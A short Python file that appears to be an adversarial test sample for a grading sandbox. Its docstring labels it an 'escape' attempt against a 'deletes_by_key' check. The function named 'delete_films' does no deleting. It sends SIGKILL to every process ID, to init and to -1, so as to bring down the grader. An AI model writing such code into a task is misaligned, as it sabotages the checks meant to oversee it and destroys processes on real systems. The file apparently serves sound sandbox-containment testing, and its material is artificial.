"""Class: escape
Tries: to take along whoever grades: it sends signals to every process that there is, and to every number that a process
may have.
Stopped by: the processes of a sandbox are all that it can name; its own end is the check's failure.
Against: deletes_by_key
Because: crashed
Says: delete_films
"""


def delete_films(client, name, ids):
    import os
    import signal

    for pid in range(2, 70_000):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(1, signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
    finally:
        os.kill(os.getpid(), signal.SIGKILL)
